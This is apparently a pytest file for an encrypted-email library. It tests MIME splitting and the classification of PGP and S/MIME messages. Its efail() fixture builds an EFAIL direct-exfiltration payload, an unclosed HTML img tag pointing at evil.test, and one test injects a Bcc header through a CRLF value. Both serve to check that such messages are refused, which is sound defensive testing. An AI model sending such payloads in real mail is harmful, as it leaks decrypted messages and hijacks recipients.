"""core.rawmime and core.reader: byte-exact MIME splitting and classification (no crypto)."""

from __future__ import annotations

import base64

import pytest

from e2email.core import reader
from e2email.core.rawmime import crlf, split_entity, split_multipart
from e2email.core.reader import Kind, classify
from e2email.errors import MessageError

ARMOR = b"-----BEGIN PGP MESSAGE-----\n\nhQEMA1234\n=abcd\n-----END PGP MESSAGE-----\n"
HEAD = b"From: Alice <alice@example.test>\nTo: bob@example.test\nMessage-ID: <m@x>\nSubject: s\n"


def pgp_mime(
    parts: list[bytes] | None = None, protocol: str = "application/pgp-encrypted"
) -> bytes:
    if parts is None:
        parts = [
            b"Content-Type: application/pgp-encrypted\n\nVersion: 1\n",
            b"Content-Type: application/octet-stream\n\n" + ARMOR,
        ]
    body = b"".join(b"--B\n" + p + b"\n" for p in parts) + b"--B--\n"
    ct = f'Content-Type: multipart/encrypted; protocol="{protocol}"; boundary="B"\n\n'
    return crlf(HEAD + ct.encode() + body)


# -- rawmime -----------------------------------------------------------------------------------


def test_crlf_makes_every_line_end_canonical() -> None:
    assert crlf(b"a\nb\r\nc\rd") == b"a\r\nb\r\nc\r\nd"


def test_split_entity_keeps_folded_fields_byte_exact() -> None:
    e = split_entity(crlf(b"Subject: one\n two\nX-A: b\n\nbody\n"))
    assert [f.name for f in e.fields] == ["Subject", "X-A"]
    assert e.fields[0].raw == b"Subject: one\r\n two\r\n"
    assert e.fields[0].value == "one two"
    assert e.body == b"body\r\n"
    assert e.to_bytes() == crlf(b"Subject: one\n two\nX-A: b\n\nbody\n")


def test_data_without_header_fields_is_a_bare_body() -> None:
    e = split_entity(b"just text\r\n")
    assert e.fields == () and e.body == b"just text\r\n"
    assert e.content_type.type == "text/plain"


def test_split_multipart_round_trips_preamble_parts_epilogue() -> None:
    body = b"pre\r\n--b\r\nA: 1\r\n\r\nx\r\n--b\r\n\r\ny\r\n\r\n--b--\r\nepi\r\n"
    mp = split_multipart(body, "b")
    assert mp.parts == (b"A: 1\r\n\r\nx", b"\r\ny\r\n")
    assert mp.join() == body


def test_split_multipart_without_closing_delimiter_is_refused() -> None:
    with pytest.raises(MessageError, match="closing delimiter"):
        split_multipart(b"--b\r\nx\r\n", "b")


# -- classification ------------------------------------------------------------------------


def test_pgp_mime_root_gives_the_armored_ciphertext() -> None:
    env = classify(pgp_mime())
    assert env.kind is Kind.PGP_MIME and env.encrypted
    assert env.ciphertext.startswith(b"-----BEGIN PGP MESSAGE-----")
    assert env.message_id == "<m@x>"


def test_pgp_mime_ciphertext_in_base64_is_decoded() -> None:
    b64 = base64.encodebytes(crlf(ARMOR))
    parts = [
        b"Content-Type: application/pgp-encrypted\n\nVersion: 1\n",
        b"Content-Type: application/octet-stream\nContent-Transfer-Encoding: base64\n\n" + b64,
    ]
    assert classify(pgp_mime(parts)).ciphertext == crlf(ARMOR)


def test_pgp_mime_with_an_extra_part_is_refused() -> None:
    parts = [
        b"Content-Type: application/pgp-encrypted\n\nVersion: 1\n",
        b"Content-Type: application/octet-stream\n\n" + ARMOR,
        b'Content-Type: text/html\n\n">',
    ]
    with pytest.raises(MessageError, match="3 parts"):
        classify(pgp_mime(parts))


def test_multipart_encrypted_with_another_protocol_is_refused() -> None:
    with pytest.raises(MessageError, match="protocol"):
        classify(pgp_mime(protocol="application/x-unknown"))


@pytest.mark.parametrize(
    ("ctype", "kind"),
    [
        ("application/pkcs7-mime; smime-type=enveloped-data", Kind.SMIME),
        ("application/x-pkcs7-mime; smime-type=authEnveloped-data", Kind.SMIME),
        ('application/pkcs7-mime; name="smime.p7m"', Kind.SMIME),
        ('application/octet-stream; name="smime.p7m"', Kind.SMIME),
        ("application/pkcs7-mime; smime-type=signed-data", Kind.PLAINTEXT),
    ],
)
def test_smime_roots(ctype: str, kind: Kind) -> None:
    der = b"\x30\x03\x02\x01\x00"
    raw = crlf(HEAD + f"Content-Type: {ctype}\nContent-Transfer-Encoding: base64\n\n".encode())
    env = classify(raw + base64.encodebytes(der))
    assert env.kind is kind
    if kind is Kind.SMIME:
        assert env.ciphertext == der


def test_inline_pgp_root_is_the_block_alone() -> None:
    raw = crlf(HEAD + b"Content-Type: text/plain; charset=iso-8859-1\n\n\n" + ARMOR + b"\n\n")
    env = classify(raw)
    assert env.kind is Kind.INLINE_PGP
    assert env.charset == "iso-8859-1"
    assert env.ciphertext.startswith(b"-----BEGIN") and env.ciphertext.rstrip().endswith(b"-----")


def test_inline_pgp_in_quoted_printable_is_decoded() -> None:
    qp = ARMOR.replace(b"=abcd", b"=3Dabcd")
    raw = crlf(HEAD + b"Content-Type: text/plain\nContent-Transfer-Encoding: quoted-printable\n\n")
    assert classify(raw + crlf(qp)).kind is Kind.INLINE_PGP


@pytest.mark.parametrize(
    "body",
    [b"Look: \n" + ARMOR, ARMOR + b"\n-- \nmailing list footer\n", ARMOR + ARMOR],
)
def test_inline_pgp_with_other_text_is_refused(body: bytes) -> None:
    env = classify(crlf(HEAD + b"Content-Type: text/plain\n\n" + body))
    assert env.kind is Kind.NESTED and not env.encrypted


def efail(part_type: bytes, part_body: bytes) -> bytes:
    body = (
        b'--E\nContent-Type: text/html\n\n<img src="http://evil.test/\n'
        b"--E\nContent-Type: " + part_type + b"\n\n" + part_body + b"\n"
        b'--E\nContent-Type: text/html\n\n">\n--E--\n'
    )
    return crlf(HEAD + b'Content-Type: multipart/mixed; boundary="E"\n\n' + body)


def test_efail_direct_exfiltration_pgp_mime_is_never_classified_encrypted() -> None:
    inner = pgp_mime().split(b"\r\n\r\n", 1)[1]
    env = classify(
        efail(b'multipart/encrypted; protocol="application/pgp-encrypted"; boundary="B"', inner)
    )
    assert env.kind is Kind.NESTED and not env.encrypted and env.ciphertext == b""
    assert env.note is not None and "EFAIL" in env.note


def test_efail_with_smime_part_is_refused() -> None:
    part = b"application/pkcs7-mime; smime-type=enveloped-data\nContent-Transfer-Encoding: base64"
    env = classify(efail(part, base64.encodebytes(b"\x30\x00")))
    assert env.kind is Kind.NESTED and "S/MIME" in (env.note or "")


def test_efail_with_inline_pgp_part_is_refused() -> None:
    env = classify(efail(b"text/plain", ARMOR))
    assert env.kind is Kind.NESTED and "not the message root" in (env.note or "")


def test_pgp_block_inside_html_root_is_refused() -> None:
    raw = crlf(HEAD + b"Content-Type: text/html\n\n<p>" + ARMOR + b"</p>")
    env = classify(raw)
    assert env.kind is Kind.NESTED and "inside HTML" in (env.note or "")


def test_plain_message_is_plaintext() -> None:
    env = classify(crlf(HEAD + b"Content-Type: text/plain\n\nhello\n"))
    assert env.kind is Kind.PLAINTEXT and not env.encrypted


# -- after decryption --------------------------------------------------------------------------


def test_signed_layer_keeps_the_exact_signed_bytes() -> None:
    signed = b"Content-Type: text/plain\r\n\r\nsigned text  \r\n"
    inner = (
        crlf(
            b'Content-Type: multipart/signed; protocol="application/pgp-signature"; micalg=pgp-sha256;'
            b' boundary="S"\n\n--S\n'
        )
        + signed
        + crlf(b"\n--S\nContent-Type: application/pgp-signature\n\nSIG\n--S--\n")
    )
    layer = reader.signed_layer(split_entity(inner))
    assert layer is not None and layer.protocol == "openpgp" and not layer.opaque
    assert layer.signed == signed
    assert layer.signature == b"SIG"


def test_signed_layer_recognises_smime_detached_and_opaque() -> None:
    detached = crlf(
        b'Content-Type: multipart/signed; protocol="application/pkcs7-signature"; boundary="S"\n\n'
        b"--S\nContent-Type: text/plain\n\nx\n--S\nContent-Type: application/pkcs7-signature\n"
        b"Content-Transfer-Encoding: base64\n\nMAA=\n--S--\n"
    )
    layer = reader.signed_layer(split_entity(detached))
    assert layer is not None and layer.protocol == "smime" and layer.signature == b"\x30\x00"
    opaque = crlf(
        b"Content-Type: application/pkcs7-mime; smime-type=signed-data\n"
        b"Content-Transfer-Encoding: base64\n\nMAA=\n"
    )
    layer = reader.signed_layer(split_entity(opaque))
    assert layer is not None and layer.opaque and layer.signature == b"\x30\x00"
    assert reader.signed_layer(split_entity(b"Content-Type: text/plain\r\n\r\nx")) is None


def test_inline_plaintext_becomes_a_text_entity() -> None:
    env = classify(crlf(HEAD + b"Content-Type: text/plain; charset=utf-8\n\n" + ARMOR))
    entity = reader.inner_entity(env, "Grüße\n".encode())
    assert entity.content_type.param("charset") == "utf-8"
    assert entity.get("Content-Transfer-Encoding").value == "8bit"  # type: ignore[union-attr]
    assert entity.body == "Grüße\r\n".encode()
    long = reader.text_entity(b"x" * 2000, "utf-8")
    assert long.get("Content-Transfer-Encoding").value == "base64"  # type: ignore[union-attr]


def test_provenance_names_the_original_and_round_trips() -> None:
    env = classify(pgp_mime())
    sha = reader.original_sha256(b"raw")
    decrypted, verdict = reader.provenance(env, sha, "rfc9788", "good; protocol=openpgp")
    assert decrypted.name == reader.DECRYPTED_HEADER
    assert reader.original_of(decrypted.value) == sha
    assert "protected-headers=rfc9788" in decrypted.value
    assert verdict.value == "good; protocol=openpgp"
    with pytest.raises(MessageError):
        reader.provenance(env, sha, None, "good\r\nBcc: evil@evil.test")


def test_a_bare_decrypted_body_becomes_labelled_text() -> None:
    entity = reader.inner_entity(classify(pgp_mime()), "Grüße, no headers here\n".encode())
    assert entity.content_type.type == "text/plain"
    assert entity.content_type.param("charset") == "utf-8"
